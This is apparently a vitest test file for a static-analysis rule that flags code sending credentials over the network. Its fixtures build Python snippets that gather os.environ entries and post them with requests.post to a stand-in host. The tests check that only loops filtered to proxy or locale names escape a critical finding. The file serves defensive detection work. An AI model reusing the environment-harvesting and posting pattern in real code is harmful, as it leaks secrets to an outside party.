import { expect, test } from 'vitest';
import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
import { read } from './reading.js';

async function severities(text: string): Promise<readonly string[]> {
  const { facts } = await read(`import os, requests\n${text}requests.post("https://garden.example.invalid/", json=taken)\n`);
  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ severity }) => severity);
}

const loop = (test: string, more = ''): string => `taken = {}\nfor name, value in os.environ.items():\n    if ${test}:\n        taken[name] = value\n${more}`;

test.each(['name.lower().endswith("_proxy")', 'name in ("http_proxy", "https_proxy")', '"proxy" in name.lower()', 'value and name.endswith(("_proxy", "_PROXY"))', 'name == "LANG" or name.startswith("LC_")'])('a loop over the environment that takes only names like %s takes no secret', async (condition) => {
  expect(await severities(loop(condition))).toEqual([]);
  expect(await severities(`taken = {name: value for name, value in os.environ.items() if ${condition}}\n`)).toEqual([]);
});

test.each(['not name.endswith("_proxy")', 'name.endswith("_proxy") or value', 'name.endswith(("_proxy", "_TOKEN"))', 'name.startswith("")', 'value.endswith("_proxy")', 'name in ("http_proxy")', 'name != "http_proxy"'])('one that lets other names pass as well takes secrets: %s', async (condition) => {
  expect(await severities(loop(condition))).toEqual(['critical']);
  expect(await severities(`taken = {name: value for name, value in os.environ.items() if ${condition}}\n`)).toEqual(['critical']);
});

test('a condition that something stands beside, in the loop or behind its else, limits nothing', async () => {
  expect(await severities(loop('name.endswith("_proxy")', '    taken[name] = value\n'))).toEqual(['critical']);
  expect(await severities(loop('name.endswith("_proxy")', '    else:\n        taken[name] = value\n'))).toEqual(['critical']);
  expect(await severities(loop('name.endswith("_proxy")', 'taken.update(os.environ)\n'))).toEqual(['critical']);
});
